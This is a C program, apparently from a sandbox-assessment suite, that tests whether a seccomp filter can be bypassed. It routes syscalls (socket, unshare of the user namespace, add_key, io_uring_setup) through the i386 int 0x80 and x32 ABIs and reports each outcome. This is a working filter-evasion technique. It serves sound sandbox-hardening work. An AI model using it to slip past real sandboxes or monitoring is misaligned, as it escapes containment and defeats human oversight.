/* Attack: make system calls through another ABI than the native x86_64 one, where a
 * filter that checks only the call's number (not seccomp_data.arch) lets them through:
 *
 *   - the 32-bit ABI (`int 0x80`, AUDIT_ARCH_I386): other numbers for the same calls, and
 *     `socketcall`, which multiplexes socket() with its arguments in memory (out of a
 *     filter's reach);
 *   - the x32 ABI (native arch, numbers with bit 0x40000000).
 *
 * Each call runs in a child of its own (a filter may kill the caller with SIGSYS) and
 * prints one line `name outcome`: `ok`, the errno's name, or `SIGSYS`.  Every socket it
 * makes is closed at once, never connected.  Build: gcc -O1 -o other_abi other_abi.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define X32_BIT 0x40000000L
#define AF_VSOCK_ 40  /* <linux/vm_sockets.h> is not in every libc's headers */
#define SYS_SOCKET_ 1     /* socketcall's call number for socket() */
#define CLONE_NEWUSER_ 0x10000000

/* i386 call numbers (asm/unistd_32.h) */
enum { I386_CLOSE = 6, I386_GETPID = 20, I386_SOCKETCALL = 102, I386_UNSHARE = 310,
       I386_SOCKET = 359, I386_ADD_KEY = 286, I386_IO_URING_SETUP = 425 };
/* x32 numbers are x86_64's with X32_BIT */
enum { X64_GETPID = 39, X64_SOCKET = 41 };

static unsigned int *low;  /* memory below 4 GiB: `int 0x80` sees pointers as 32 bits */

static long int80(long nr, long a, long b, long c, long d, long e) {
#if defined(__x86_64__)
    long rc;
    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory");
    return rc;
#else
    (void)nr; (void)a; (void)b; (void)c; (void)d; (void)e;
    return -ENOSYS;
#endif
}

/* The raw result of one call, made in this (child) process. */
static long call(const char *name) {
    if (!strcmp(name, "i386_getpid")) return int80(I386_GETPID, 0, 0, 0, 0, 0);
    if (!strcmp(name, "i386_socket_vsock")) return int80(I386_SOCKET, AF_VSOCK_, SOCK_STREAM, 0, 0, 0);
    if (!strcmp(name, "i386_socketcall_vsock") || !strcmp(name, "i386_socketcall_inet")) {
        low[0] = name[16] == 'v' ? AF_VSOCK_ : AF_INET;
        low[1] = SOCK_STREAM;
        low[2] = 0;
        return int80(I386_SOCKETCALL, SYS_SOCKET_, (long)(unsigned long)low, 0, 0, 0);
    }
    if (!strcmp(name, "i386_unshare_user")) return int80(I386_UNSHARE, CLONE_NEWUSER_, 0, 0, 0, 0);
    if (!strcmp(name, "i386_add_key")) {
        strcpy((char *)low, "user");
        strcpy((char *)low + 16, "bsa-other-abi");
        strcpy((char *)low + 32, "x");
        /* into the process's own keyring (KEY_SPEC_PROCESS_KEYRING): it goes with the child */
        return int80(I386_ADD_KEY, (long)(unsigned long)low, (long)(unsigned long)low + 16,
                     (long)(unsigned long)low + 32, 1, -2);
    }
    if (!strcmp(name, "i386_io_uring_setup")) {
        memset(low + 64, 0, 120);
        return int80(I386_IO_URING_SETUP, 8, (long)(unsigned long)(low + 64), 0, 0, 0);
    }
    if (!strcmp(name, "x32_getpid")) return syscall(X32_BIT | X64_GETPID);
    if (!strcmp(name, "x32_socket_vsock")) return syscall(X32_BIT | X64_SOCKET, AF_VSOCK_, SOCK_STREAM, 0);
    if (!strcmp(name, "native_getpid")) return syscall(SYS_getpid);
    if (!strcmp(name, "native_socket_vsock")) return syscall(SYS_socket, AF_VSOCK_, SOCK_STREAM, 0);
    return -EINVAL;
}

/* A raw result as `ok` or an errno name: int 0x80 returns -errno, syscall() -1 and errno. */
static const char *outcome(const char *name, long rc, char *buf, size_t size) {
    int err = 0;
    if (!strncmp(name, "i386_", 5) && rc < 0 && rc > -4096) err = (int)-rc;
    else if (strncmp(name, "i386_", 5) && rc == -1) err = errno;
    if (!err) return "ok";
    snprintf(buf, size, "%s", strerrorname_np(err) ? strerrorname_np(err) : "E?");
    return buf;
}

static void probe(const char *name) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        char buf[32];
        long rc = call(name);
        const char *what = outcome(name, rc, buf, sizeof buf);
        if (!strcmp(what, "ok") && strstr(name, "socket")) {
            if (!strncmp(name, "i386_", 5)) int80(I386_CLOSE, rc, 0, 0, 0, 0);
            else close((int)rc);
        }
        printf("%s %s\n", name, what);
        fflush(stdout);
        _exit(0);
    }
    int status = 0;
    if (pid < 0 || waitpid(pid, &status, 0) < 0) {
        printf("%s fork-failed\n", name);
    } else if (WIFSIGNALED(status)) {
        printf("%s %s\n", name, WTERMSIG(status) == SIGSYS ? "SIGSYS" : strsignal(WTERMSIG(status)));
    }
}

int main(void) {
    low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    const char *names[] = {"native_getpid", "native_socket_vsock", "i386_getpid", "i386_socket_vsock",
                           "i386_socketcall_vsock", "i386_socketcall_inet", "i386_unshare_user",
                           "i386_add_key", "i386_io_uring_setup", "x32_getpid", "x32_socket_vsock"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) probe(names[i]);
    return 0;
}
